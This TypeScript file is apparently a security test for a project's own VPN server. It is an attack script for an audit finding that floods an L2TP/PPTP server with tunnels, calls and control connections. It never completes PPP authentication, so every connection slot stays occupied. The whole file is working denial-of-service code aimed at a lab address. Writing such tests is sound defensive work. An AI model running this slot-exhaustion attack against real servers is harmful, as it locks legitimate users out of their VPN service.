/**
 * Attack script (runs in the attacker namespace), finding 5: one source
 * address opens as many PPP sessions as the server lets it and never
 * authenticates (it never answers LCP), to hold every connection slot.
 * L2TP: `tunnels` tunnels of `calls` incoming calls each (a real LAC
 * exchange, so each session gets as far as the server's LCP). PPTP:
 * `pptpConns` control connections of 4 Outgoing-Calls each. Holds them for
 * `holdS` seconds, then prints
 * `L2TP up n refused n PPTP connected n disconnected n`.
 * Args: server, holdS, tunnels, calls, pptpConns.
 */
import { createSocket } from 'node:dgram';
import { connect, type Socket } from 'node:net';
import { seededRng } from '../../../../src/core/rng.js';
import { L2tpEndpoint, type L2tpEndpointOutput } from '../../../../src/l2tp/endpoint.js';
import { encodeControlMessage, parseControlMessage, type ControlMessage } from '../../../../src/pptp/control-codec.js';
import { ControlStreamFramer } from '../../../../src/pptp/control-stream.js';

const [server = '10.201.0.1', holdArg = '20', tunnelsArg = '7', callsArg = '16', pptpArg = '25'] = process.argv.slice(2);
const holdMs = Number(holdArg) * 1000;
const tunnels = Number(tunnelsArg);
const calls = Number(callsArg);
const pptpConns = Number(pptpArg);
const LNS = { address: server, port: 1701 };
const t0 = performance.now();
const now = (): number => performance.now() - t0;

// ---- L2TP: a LAC that places calls and then stays silent on PPP.
const udp = createSocket('udp4');
await new Promise<void>((resolve) => udp.bind(1701, resolve));
const lac = new L2tpEndpoint({ tunnel: { role: 'lac', hostName: 'hog', maxSessions: 1000 }, maxTunnels: 1000 }, seededRng(Date.now() & 0xffff));
let l2tpUp = 0;
let l2tpRefused = 0;
const tunnelIds: number[] = [];
const out = (os: L2tpEndpointOutput[]): void => {
  for (const o of os) {
    if (o.kind === 'send') udp.send(o.bytes, o.to.port, o.to.address);
    else if (o.kind === 'event') {
      if (o.event.type === 'tunnel-up') for (let i = 0; i < calls; i++) out(lac.command(o.tunnelId, { type: 'open-session' }, now()));
      else if (o.event.type === 'session-up') l2tpUp++;
      else if (o.event.type === 'session-down' && o.event.sessionId !== 0) l2tpRefused++;
    }
  }
};
udp.on('message', (b: Buffer, r) => out(lac.receive({ address: r.address, port: r.port }, b, now())));
const timer = setInterval(() => out(lac.timeout(now())), 50);
for (let i = 0; i < tunnels; i++) {
  const c = lac.connect(LNS, now());
  if (c.tunnelId !== undefined) tunnelIds.push(c.tunnelId);
  out(c.out);
}

// ---- PPTP: control connections with 4 Outgoing-Calls each.
let pptpConnected = 0;
let pptpDisconnected = 0;
const sockets: Socket[] = [];
const SCCRQ: ControlMessage = { type: 'SCCRQ', protocolVersion: 0x100, framingCapabilities: 1, bearerCapabilities: 1, maximumChannels: 0, firmwareRevision: 1, hostName: 'hog', vendorName: 'hog' };
let callId = 1;
for (let i = 0; i < pptpConns; i++) {
  const sock = connect(1723, server);
  sockets.push(sock);
  const framer = new ControlStreamFramer();
  sock.on('error', () => {});
  sock.on('connect', () => sock.write(encodeControlMessage(SCCRQ)));
  sock.on('data', (b: Buffer) => {
    for (const f of framer.push(b).frames) {
      const m = parseControlMessage(f);
      if (!m.ok) continue;
      if (m.value.type === 'SCCRP') {
        for (let k = 0; k < 4; k++) {
          const id = callId++;
          sock.write(encodeControlMessage({ type: 'OCRQ', callId: id, callSerialNumber: id, minimumBps: 300, maximumBps: 100_000_000, bearerType: 3, framingType: 3, packetRecvWindowSize: 64, packetProcessingDelay: 0, phoneNumberLength: 0, phoneNumber: '', subaddress: '' }));
        }
      } else if (m.value.type === 'OCRP' && m.value.resultCode === 1) pptpConnected++;
      else if (m.value.type === 'CDN') pptpDisconnected++;
    }
  });
  await new Promise((r) => setTimeout(r, 20));
}

await new Promise((r) => setTimeout(r, holdMs));
clearInterval(timer);
for (const s of sockets) s.destroy();
udp.close();
console.log(`L2TP up ${l2tpUp} refused ${l2tpRefused} PPTP connected ${pptpConnected} disconnected ${pptpDisconnected}`);
